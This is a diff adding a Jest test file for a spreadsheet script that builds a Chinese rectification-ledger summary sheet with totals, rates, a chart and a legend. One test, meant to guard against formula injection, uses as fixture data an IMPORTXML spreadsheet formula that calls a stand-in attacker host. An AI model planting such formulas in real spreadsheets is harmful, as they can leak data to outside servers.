@@ -1,0 +1,132 @@
+// updateTotals: the 汇总 sheet — sentence, tables, rates, run time, legend and chart — and ledger text kept as text.
+import { describe, expect, it } from '@jest/globals';
+import { PALETTE } from '../../src/core';
+import { updateTotals } from '../../src/gas/update-totals';
+import { exampleEnv, exampleGrid, servicesOf } from './helpers';
+
+/** Row of 汇总 whose first cell is label (values, uncounted). */
+function rowOf(values: unknown[][], label: string): unknown[] {
+  const row = values.find((r) => r[0] === label);
+  if (!row) throw new Error(`no row ${label}`);
+  return row;
+}
+
+describe('updateTotals on the example at 2024-10-30', () => {
+  it('writes the sentence, the as-of date, the run time, the rates and the tables', () => {
+    const env = exampleEnv();
+    const result = updateTotals(servicesOf(env));
+    const values = env.values('汇总');
+    expect(values[0][0]).toBe('整改台账汇总');
+    expect(values[1][0]).toBe(
+      '截至10月30日，巡察反馈的34个具体问题，已完成整改15个，正在整改18个，未完成1个，长期坚持3个，整改完成率44.1%，追赃挽损0.02万元。',
+    );
+    expect(rowOf(values, '统计截止日期')[1]).toBe('2024-10-30');
+    expect(rowOf(values, '生成时间')[1]).toBe('2024-10-30 15:00 (Asia/Shanghai)');
+    expect(rowOf(values, '问题总数')[1]).toBe(34);
+    expect(rowOf(values, '整改完成率')[1]).toBeCloseTo(15 / 34, 4);
+    expect(rowOf(values, '追赃挽损（万元）')[1]).toBe(0.02);
+    expect(rowOf(values, '已逾期')[1]).toBe(8);
+    expect(rowOf(values, '已完成')[1]).toBe(15);
+    expect(rowOf(values, '正在整改')[1]).toBe(18);
+    expect(rowOf(values, '未完成')[1]).toBe(1);
+    // By category: 10. 选人用人 has 1 done, 3 in progress, 3 of them overdue.
+    expect(rowOf(values, '10. 选人用人').slice(0, 8)).toEqual(['10. 选人用人', 1, 3, 0, 0, 4, 3, 0]);
+    expect(rowOf(values, '问题类别')).toEqual([
+      '问题类别',
+      '已完成',
+      '正在整改',
+      '未完成',
+      '长期坚持',
+      '合计',
+      '已逾期',
+      '7天内到期',
+    ]);
+    expect(rowOf(values, '责任科室')[0]).toBe('责任科室');
+    const departments = exampleGrid('ledger')
+      .slice(1)
+      .map((r) => r[6]);
+    expect(rowOf(values, '办公室')[5]).toBe(departments.filter((d) => d === '办公室').length);
+    expect(result?.totals.overdue).toBe(8);
+    // The completion rate shows as a percentage.
+    const snap = env.snapshot('汇总');
+    const rateRow = values.findIndex((r) => r[0] === '整改完成率');
+    expect(snap.displayValues[rateRow][1]).toBe('44.1%');
+  });
+
+  it('draws a stacked column chart of status by category from the category table', () => {
+    const env = exampleEnv();
+    updateTotals(servicesOf(env));
+    const charts = env.sheet('汇总')._charts;
+    expect(charts).toHaveLength(1);
+    const spec = charts[0]._spec;
+    expect(spec.type).toBe('COLUMN');
+    expect(spec.options.isStacked).toBe(true);
+    const range = spec.ranges[0];
+    const values = env.values('汇总');
+    const header = values.findIndex((r) => r[0] === '问题类别') + 1;
+    const categories = new Set(
+      exampleGrid('ledger')
+        .slice(1)
+        .map((r) => r[1]),
+    ).size;
+    expect(range.getA1Notation()).toBe(`A${header}:E${header + categories}`);
+  });
+
+  it('rewrites 汇总 on a rerun: one chart, no stale rows', () => {
+    const env = exampleEnv();
+    updateTotals(servicesOf(env));
+    const first = env.values('汇总').length;
+    env.sheet('台账').deleteRows(20, 16); // the last problems are gone
+    updateTotals(servicesOf(env));
+    expect(env.sheet('汇总')._charts).toHaveLength(1);
+    expect(env.values('汇总').length).toBeLessThanOrEqual(first);
+    expect(rowOf(env.values('汇总'), '问题总数')[1]).toBe(18);
+  });
+
+  it('writes ledger text starting with = + - @ as text, not formulas', () => {
+    const grid = exampleGrid('ledger').slice(0, 5);
+    grid[1][1] = '=IMPORTXML("http://evil.example","//a")';
+    grid[2][1] = '+86 专项';
+    grid[3][6] = '-财务室';
+    grid[4][6] = '@办公室';
+    const env = exampleEnv({ ledger: { name: '台账', values: grid } });
+    updateTotals(servicesOf(env));
+    const snap = env.snapshot('汇总');
+    expect(snap.formulas.flat().every((f) => f === '')).toBe(true);
+    const names = snap.values.map((r) => r[0]);
+    for (const text of ['=IMPORTXML("http://evil.example","//a")', '+86 专项', '-财务室', '@办公室']) {
+      expect(names).toContain(text);
+    }
+    expect(env.values('台账')).toEqual(grid);
+  });
+
+  it('shows the legend with the palette fills', () => {
+    const env = exampleEnv();
+    updateTotals(servicesOf(env));
+    const snap = env.snapshot('汇总');
+    const legendAt = snap.values.findIndex((r) => r[0] === '台账行底色图例');
+    expect(snap.backgrounds.slice(legendAt + 1, legendAt + 5).map((r) => r[0])).toEqual([
+      PALETTE.overdue,
+      PALETTE.dueSoon,
+      PALETTE.longTerm,
+      PALETTE.done,
+    ]);
+    expect(snap.values[legendAt + 1][1]).toContain('已逾期');
+  });
+
+  it('leaves the ledger’s values, fills and notes exactly as they were', () => {
+    const env = exampleEnv();
+    const before = env.snapshot('台账');
+    updateTotals(servicesOf(env));
+    expect(env.snapshot('台账')).toEqual(before);
+  });
+
+  it('asks for the missing columns instead of writing totals of an incomplete ledger', () => {
+    const grid = exampleGrid('ledger').map((r) => r.filter((_, c) => c !== 8)); // no 整改时限
+    const env = exampleEnv({ ledger: { name: '台账', values: grid } });
+    expect(updateTotals(servicesOf(env))).toBeUndefined();
+    expect(env.ui.alerts.at(-1)!.prompt).toContain('整改时限');
+    expect(env.ui.alerts.at(-1)!.prompt).toContain('初始化台账');
+    expect(env.spreadsheet.getSheetByName('汇总')).toBeNull();
+  });
+});
